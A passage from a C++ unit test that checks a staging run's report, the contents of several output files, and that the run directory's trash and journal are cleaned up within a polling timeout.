  CHECK(first.report.at("staging").at("cleanup") == "done");  // nothing to replace yet
  CHECK(read_file(s.project() + "/out/d50/f45") == "new\n");
  CHECK(read_file(s.project() + "/out/d1/f1") == "new\n");

  std::string run_dir = state_dir(s) + "/runs/" + run_id(second);
  // Once cleaned, the run may also be slimmed to its report (the journal goes then too).
  auto cleaned = [&] {
    if (path_exists(run_dir + "/trash") || path_exists(run_dir + "/upper")) return false;
    if (!path_exists(run_dir + "/journal.json")) return true;
    auto journal = json::parse(read_file(run_dir + "/journal.json"), nullptr, false);
    return journal.is_object() && journal.value("state", "") == "done";
  };

  for (int i = 0; i < 600 && !cleaned(); ++i) std::this_thread::sleep_for(100ms);
  CHECK(cleaned());
  CHECK(read_file(s.project() + "/out/d25/f7") == "new\n");
}
